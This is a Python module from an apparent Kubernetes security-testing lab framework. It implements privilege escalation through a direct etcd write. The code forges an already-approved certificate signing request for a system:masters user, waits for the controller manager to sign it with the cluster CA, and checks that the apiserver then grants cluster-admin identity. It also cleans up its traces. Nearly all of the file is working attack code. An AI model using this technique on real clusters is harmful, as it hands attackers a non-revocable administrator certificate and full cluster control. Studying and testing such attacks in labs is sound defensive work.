"""A forged certificate request in etcd: what the techniques that write it share.

A direct write into etcd bypasses all checks of the apiserver. The forged object is a certificate
signing request for a member of ``system:masters`` that is already marked as approved. The
apiserver's admission would refuse this group. The controller manager finds the object and signs
it with the cluster's CA. No authorizer refuses anything to ``system:masters``, and Kubernetes
cannot revoke a certificate.
"""

from __future__ import annotations

import json
import re
import secrets
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, Protocol

from labkit import agents
from labkit.errors import ProbeError
from labkit.lab.traces import Trace, leaving
from labkit.model import Channel, Foothold, read_model
from labkit.techniques._lib.machines.admin import create
from labkit.techniques._lib.machines.reach import Answer, execution_place, request, run_from
from labkit.techniques._lib.machines.waiting import wait_for
from labkit.techniques._lib.stores.etcd import encode
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["GROUP", "KEY", "LEAVES", "SOURCES", "USER", "Store", "forge"]

USER, GROUP = "labkit-forged", "system:masters"
KEY = f"/registry/certificatesigningrequests/{USER}"
#: The key of a certificate, the forged request, and the object of the positive control.
LEAVES = ("file", "key", "object")
SOURCES = (
    "Securing communications in Kubernetes (2016), etcd",
    "https://kubernetes.io/docs/reference/access-authn-authz/certificate-signing-requests/",
    "https://attack.mitre.org/techniques/T1565/001/",
)
#: The shortest validity that the apiserver accepts, in seconds.
VALID_S = 600
PATIENCE = 20.0
REVIEW = {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}


class Store(Protocol):
    """Access to etcd, as an attacker has it."""

    def put(self, key: str, value: bytes) -> Answer:
        """Write a value."""

    def get(self, key: str) -> bytes:
        """Read a value; return no bytes if the key does not exist."""


@dataclass(frozen=True, slots=True)
class _Case:
    """The lab, the foothold and the folder of one run."""

    lab: Lab
    foothold: Foothold
    folder: str


def forge(
    lab: Lab, technique: str, foothold: Foothold, store: Store, how: str, taken: str
) -> Verdict:
    """Write an approved certificate request into etcd, and use the signed certificate.

    Parameters
    ----------
    lab : Lab
    technique : str
    foothold : Foothold
    store : Store
        Access to etcd from the foothold.
    how : str
        With which credential, for the evidence: "without a credential".
    taken : str
        The reason to give if it succeeds.

    Returns
    -------
    Verdict

    Raises
    ------
    ProbeTimeout
        An answer, or the certificate, did not come in time.
    ProbeError
        The key could not be made, or the apiserver did not accept the certificate.
    """
    case = _Case(lab, foothold, f"/tmp/labkit-{secrets.token_hex(4)}")  # noqa: S108 - the attacker's
    evidence = [f"wrote to etcd, {how}: {KEY}"]
    argv = agents.argv("make_key", case.folder, USER, GROUP)
    # without its key, nobody can use the certificate again
    made_files = Trace("file", case.folder, execution_place(lab, foothold)[0])
    with leaving(lab, made_files, Trace("key", KEY)):
        made = run_from(lab, foothold, argv)
        if made.exit_code:
            raise ProbeError(f"openssl exited with {made.exit_code}", evidence=[made.error])
        answer = store.put(KEY, json.dumps(_request(made.stdout)).encode())
        if answer.refusal:
            tried = (f"tried to write to etcd, {how}: {KEY}",)
            control = _control(lab)
            return Verdict(technique, lab.mode, foothold, False, answer.refusal, tried, control)
        run_from(lab, foothold, ["tee", f"{case.folder}/crt"], stdin=_certificate(lab, store))
        before, after = _user_info(case, with_it=False), _user_info(case, with_it=True)
    if GROUP not in after.get("groups", ()):
        raise ProbeError(f"the apiserver does not see a member of {GROUP}, but {after}")
    evidence += [
        "the controller-manager signed it with the cluster's authority",
        f"to the apiserver, on its TLS port, the attacker was {before.get('username', 'nobody')}",
        f"and is now {after['username']}, in group {GROUP}",
    ]
    return Verdict(technique, lab.mode, foothold, True, taken, tuple(evidence))


def _request(csr: bytes) -> dict[str, Any]:
    """Return the request as the apiserver would store it."""
    now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    approved = {
        "type": "Approved",
        "status": "True",
        "reason": "Forged",
        "message": "written by labkit past the apiserver",
        "lastUpdateTime": now,
        "lastTransitionTime": now,
    }
    return {
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {
            "name": USER,
            "uid": f"{secrets.token_hex(4)}-0000-4000-8000-{secrets.token_hex(6)}",
            "creationTimestamp": now,
        },
        "spec": {
            "request": encode(csr),
            "signerName": "kubernetes.io/kube-apiserver-client",
            "expirationSeconds": VALID_S,
            "usages": ["client auth"],
            "username": "system:admin",
        },
        "status": {"conditions": [approved]},
    }


def _certificate(lab: Lab, store: Store) -> bytes:
    """Wait for the signed certificate by reading the request in etcd repeatedly."""
    pem = rb"-----BEGIN CERTIFICATE-----[^-]+-----END CERTIFICATE-----\n"
    missing = "the forged request was not signed"
    return wait_for(lab, lambda: re.search(pem, store.get(KEY)), PATIENCE, missing)[0]


def _user_info(case: _Case, *, with_it: bool) -> dict[str, Any]:
    """Return the user that the apiserver sees on its TLS port, with or without the certificate."""
    secure = _tls_channel(case.lab)
    url = f"https://{secure.server.split('@')[1]}:{secure.port}"
    options = ["--cert", f"{case.folder}/crt", "--key", f"{case.folder}/key"] if with_it else []
    path = "/apis/authentication.k8s.io/v1/selfsubjectreviews"
    body = json.dumps(REVIEW).encode()
    said = request(case.lab, url + path, foothold=case.foothold, body=body, options=options)
    if said.refusal and not with_it:
        return {}
    try:
        found: dict[str, Any] = json.loads(said.body)["status"]["userInfo"]
    except (ValueError, KeyError) as error:
        raise ProbeError(f"{url}: {said.refusal or 'the answer names no user'}") from error
    return found


def _tls_channel(lab: Lab) -> Channel:
    found = read_model(lab.environment).channels
    return next(
        c for c in found if c.server.startswith("kube-apiserver@") and c.protocol == "https"
    )


def _control(lab: Lab) -> str:
    """Let the apiserver write to etcd, and delete what it wrote: the positive control."""
    path, name = "/api/v1/namespaces/default/configmaps", "labkit-control"
    with leaving(lab, Trace("object", f"{path}/{name}")):
        create(lab, path, {"metadata": {"name": name}})
    return "the apiserver writes to the same etcd: a ConfigMap was created and deleted"
